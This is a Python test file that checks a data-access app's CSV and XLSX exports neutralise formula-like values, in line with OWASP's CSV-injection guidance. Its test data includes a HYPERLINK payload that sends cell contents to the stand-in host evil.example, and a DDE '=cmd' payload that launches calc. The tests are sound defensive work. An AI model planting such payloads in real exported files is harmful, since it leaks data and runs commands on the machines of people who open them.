"""Exports carry data, never formulas (issue 17, item 4: OWASP's CSV-injection rule).

An account named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` came out raw in the table CSV and as a
live formula in the XLSX downloads and the full export.
"""

from __future__ import annotations

import base64
import csv
import io
import zipfile
from datetime import UTC, datetime

import pandas as pd
from openpyxl import load_workbook

from data_access.cells import frame_csv, frame_xlsx, neutralise, unneutralise
from data_access.db import session_factory
from data_access.importer.export import export
from data_access.models import ImportRun
from tests.builders import Seed
from tests.dash_http import download

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
STARTS = ["=1+1", "+86 138 0000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_exs001_neutralise_each_formula_start_and_nothing_else():
    for value in STARTS:
        assert neutralise(value) == "'" + value
        assert unneutralise(neutralise(value)) == value
    for other in ["上海华信银行", "A00001", "", "a=b", "'quoted", 42, -5.5, None]:
        assert neutralise(other) == other
    assert unneutralise("'quoted") == "'quoted"  # only a quote before a formula start is ours


def test_exs002_frames_as_csv_and_xlsx():
    frame = pd.DataFrame({"name": [EVIL, "+86 138", "ok"], "amount": [-1.5, None, 3.0]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode("utf-8-sig"))))
    assert rows == [["name", "amount"], ["'" + EVIL, "-1.5"], ["'+86 138", ""], ["ok", "3.0"]]
    sheet = load_workbook(io.BytesIO(frame_xlsx(frame))).active
    name, amount = sheet["A2"], sheet["B2"]
    assert name.value == EVIL and name.data_type == "s"  # text, exactly as stored: no formula
    assert amount.value == -1.5 and amount.data_type == "n"  # a negative number stays a number
    assert sheet["A3"].value == "+86 138" and sheet["A3"].data_type == "s"


def test_exs003_the_full_export_writes_formula_like_names_as_text(engine, tmp_path):
    with session_factory(engine)() as session:
        seed = Seed(session)
        rep = seed.rep("R1", seed.team("T1"))
        account = seed.account("A1", rep, name=EVIL)
        seed.contact(account, "=cmd|' /C calc'!A0", "influencer")
        session.commit()
        export(session, tmp_path / "all.xlsx")
        export(session, tmp_path / "all.zip")
    book = load_workbook(tmp_path / "all.xlsx")
    cell = book["accounts"]["B2"]
    assert cell.value == EVIL and cell.data_type == "s"
    assert book["contacts"]["B2"].value == "=cmd|' /C calc'!A0" and book["contacts"]["B2"].data_type == "s"
    with zipfile.ZipFile(tmp_path / "all.zip") as archive:
        accounts = list(csv.reader(io.StringIO(archive.read("accounts.csv").decode("utf-8-sig"))))
    assert accounts[1][1] == "'" + EVIL


def test_exs004_table_downloads_over_http_neutralise_what_a_file_name_carried(director, demo_engine):
    """The import log's file names come from uploads: a name like a formula is text in both downloads."""
    now = datetime.now(UTC).replace(tzinfo=None)
    with session_factory(demo_engine)() as session:
        session.add(
            ImportRun(
                username="director",
                started_at=now,
                finished_at=now,
                file_name=EVIL,
                as_of=now.date(),
                status="rejected",
                counts={},
                issue_count=1,
            )
        )
        session.commit()
    answer = download(director, "import_history", "csv")
    data = answer.get_json()["response"]["table-download-target"]["data"]
    text = base64.b64decode(data["content"]).decode("utf-8-sig") if data.get("base64") else data["content"]
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[rows[0].index("file")] for row in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    answer = download(director, "import_history", "xlsx")
    data = answer.get_json()["response"]["table-download-target"]["data"]
    sheet = load_workbook(io.BytesIO(base64.b64decode(data["content"]))).active
    column = [c.value for c in sheet[1]].index("file") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in evil)


def test_exs005_a_csv_export_imports_back_unchanged(engine, new_engine, tmp_path):
    """The leading ' our CSV export adds comes off again on import: names and phones round-trip exactly."""
    from data_access.importer.engine import run_import
    from data_access.models import Account, Contact
    from tests.conftest import AS_OF

    with session_factory(engine)() as session:
        seed = Seed(session)
        rep = seed.rep("R1", seed.team("T1"), region="华东")
        account = seed.account("A1", rep, name=EVIL)
        contact = seed.contact(account, "李强", "influencer")
        contact.phone = "+86 138 0000 0000"
        session.commit()
        export(session, tmp_path / "all.zip")
    target = new_engine()
    report = run_import(target, tmp_path / "all.zip", as_of=AS_OF, username="test")
    assert report.ok, report.issues
    with session_factory(target)() as session:
        assert session.query(Account.name).scalar() == EVIL
        assert session.query(Contact.phone).scalar() == "+86 138 0000 0000"
